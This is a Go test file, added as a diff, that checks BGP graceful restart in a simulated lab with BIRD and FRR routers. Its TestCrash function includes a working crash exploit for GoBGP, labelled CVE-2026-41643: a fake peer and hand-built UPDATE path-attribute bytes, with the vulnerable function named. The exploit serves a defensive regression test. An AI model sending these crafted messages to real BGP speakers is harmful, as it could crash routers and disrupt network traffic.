@@ -1,0 +1,187 @@
+package gobgp
+
+import (
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/netip"
+	"testing"
+	"time"
+
+	"github.com/ironlb/ironlb/speaker/plan"
+	"github.com/ironlb/ironlb/test/lab/router"
+)
+
+// gracefully is a world with both kinds of routers, both families, and a driver with graceful restart; all routes are in the kernels.
+func gracefully(t *testing.T, more map[string]plan.Peer) (w *world, d *node, set plan.BGPChange) {
+	w = newWorld(t, "bird", "frr", "bird", "frr")
+	peers := map[string]plan.Peer{}
+	names := []string{}
+	for i, f := range w.routers {
+		n, p := f.neighbor(), f.peer()
+		if i >= 2 {
+			n.Address, p = f.node6, f.peer6()
+		}
+		n.IPv4, n.IPv6, p.IPv4, p.IPv6 = true, true, true, true
+		p.NextHop4, p.NextHop6, p.GracefulRestart = f.link.node, f.node6, true
+		f.neighbors(t, n)
+		name := fmt.Sprintf("r%d", i)
+		peers[name], names = p, append(names, name)
+	}
+	for name, p := range more {
+		peers[name], names = p, append(names, name)
+	}
+	set = wanted(peers, map[netip.Prefix]plan.Route{vip4: to(names...), vip6: to(names...), pool4: to(names...), pool6: to(names...)})
+	d = startNode(t, w.node)
+	d.apply(t, set)
+	for i, f := range w.routers {
+		d.up(t, fmt.Sprintf("r%d", i))
+		f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}})
+		f.kernel(t, 6, map[netip.Prefix][]netip.Addr{vip6: {f.node6}, pool6: {f.node6}})
+	}
+	return w, d, set
+}
+
+// TestKilled: the process is killed and started again: no router changes a route. There are four, since as soon as the first is up again
+// GoBGP takes the restart for over with all.
+func TestKilled(t *testing.T) {
+	t.Parallel()
+	w, d, set := gracefully(t, nil)
+	stays := unchanged(t, w, more)
+	for range 2 {
+		d.kill()
+		eventually(t, "every router misses the session", func() bool {
+			for _, f := range w.routers {
+				if s, err := f.Sessions(t.Context()); err != nil || s["node"].Established {
+					return false
+				}
+			}
+			return true
+		})
+		d = startNode(t, w.node)
+		d.apply(t, set)
+		for i := range w.routers {
+			d.up(t, fmt.Sprintf("r%d", i))
+		}
+		names := to("r0", "r1", "r2", "r3")
+		d.apply(t, plan.BGPChange{RouterID: nodeID, Routes: map[netip.Prefix]plan.Route{more: names}})
+		for _, f := range w.routers {
+			f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}, more: {f.link.node}})
+		}
+		d.apply(t, plan.BGPChange{RouterID: nodeID, Routes: map[netip.Prefix]plan.Route{more: nil}})
+		for _, f := range w.routers {
+			f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}})
+		}
+		stays()
+	}
+}
+
+// more is a route that is added once a restart is over: it comes after all of the table, so what was to be dropped has been.
+var more = pfx("192.0.2.77/32")
+
+// unchanged watches the routers' kernels; what it returns fails the test if a route changed other than this one.
+func unchanged(t *testing.T, w *world, but netip.Prefix) func() {
+	t.Helper()
+	monitors := make([]*router.Monitor, len(w.routers))
+	for i, f := range w.routers {
+		m, err := f.place.Monitor(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { m.Stop() })
+		monitors[i] = m
+	}
+	return func() {
+		t.Helper()
+		for i, m := range monitors {
+			for _, e := range m.Events() {
+				if e.Prefix != but {
+					t.Errorf("router %d (%s) changed a route at %v: deleted %v: %s", i, w.routers[i].kind, e.At, e.Deleted, e.Text)
+				}
+			}
+		}
+	}
+}
+
+// TestCrash: a peer without 4-octet AS numbers sends the UPDATE of CVE-2026-41643, and GoBGP takes the process down with it. The other
+// peers notice a graceful restart and nothing else.
+func TestCrash(t *testing.T) {
+	t.Parallel()
+	evil := plan.Peer{Address: addr("203.0.113.200"), Port: 179, MyASN: nodeASN, PeerASN: routerASN, IPv4: true, ConnectTime: time.Second}
+	w, d, set := gracefully(t, map[string]plan.Peer{"evil": evil})
+	stays := unchanged(t, w, more)
+	f := w.routers[0]
+	// The attacker is on the first router's link, beside it.
+	f.space.Address(t, "eth0", "203.0.113.200/32")
+	w.node.Route(t, "203.0.113.200/32", f.link.router.String())
+	var l net.Listener
+	f.space.Must(t, func() (err error) {
+		l, err = net.Listen("tcp4", "203.0.113.200:1790")
+		return err
+	})
+	defer l.Close()
+	evil.Port, evil.MultiHop = 1790, true
+	d.apply(t, plan.BGPChange{RouterID: nodeID, Peers: map[string]*plan.Peer{"evil": &evil}})
+	go attack(l)
+	select {
+	case <-d.ended:
+		t.Logf("the process ended: %v", d.err)
+	case <-time.After(patience):
+		t.Fatal("the process lives: is GoBGP mended? Then this test and docs/design/bgp.md have lost their reason")
+	}
+	d = startNode(t, w.node)
+	delete(set.Peers, "evil")
+	d.apply(t, set)
+	for i := range w.routers {
+		d.up(t, fmt.Sprintf("r%d", i))
+	}
+	d.apply(t, plan.BGPChange{RouterID: nodeID, Routes: map[netip.Prefix]plan.Route{more: to("r0", "r1", "r2", "r3")}})
+	for _, f := range w.routers {
+		f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}, more: {f.link.node}})
+	}
+	stays()
+}
+
+// attack plays a peer that has no capabilities at all.
+func attack(l net.Listener) {
+	conn, err := l.Accept()
+	if err != nil {
+		return
+	}
+	defer conn.Close()
+	message := func(kind byte, body []byte) {
+		m := make([]byte, 16, 19+len(body))
+		for i := range m {
+			m[i] = 0xff
+		}
+		m = binary.BigEndian.AppendUint16(m, uint16(19+len(body)))
+		conn.Write(append(append(m, kind), body...)) // if it fails the test's deadline tells
+	}
+	open := binary.BigEndian.AppendUint16([]byte{4}, routerASN)
+	open = append(binary.BigEndian.AppendUint16(open, 90), 203, 0, 113, 200, 0)
+	message(1, open)
+	message(4, nil)
+	readMessage(conn) // its OPEN
+	readMessage(conn) // its KEEPALIVE: the session is up for it now or soon
+	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(attack41643))) // nothing is withdrawn
+	message(2, append(append(update, attack41643...), 24, 192, 0, 2))
+	io.Copy(io.Discard, conn)
+}
+
+func readMessage(conn net.Conn) {
+	head := make([]byte, 19)
+	if _, err := io.ReadFull(conn, head); err != nil {
+		return
+	}
+	io.CopyN(io.Discard, conn, int64(binary.BigEndian.Uint16(head[16:]))-19)
+}
+
+// attack41643 are path attributes with AS4_PATH before AS_PATH, which is the last: GoBGP takes the first out of the list and then writes
+// to where the second was (UpdatePathAttrs4ByteAs in internal/pkg/table/message.go of v3.37.0; mended in v4.3.0).
+var attack41643 = []byte{
+	0x40, 1, 1, 0, // ORIGIN IGP
+	0x40, 3, 4, 203, 0, 113, 200, // NEXT_HOP
+	0xc0, 17, 6, 2, 1, 0, 0, 0xfd, 0xea, // AS4_PATH 65002
+	0x40, 2, 4, 2, 1, 0xfd, 0xea, // AS_PATH 65002, two octets each
+}
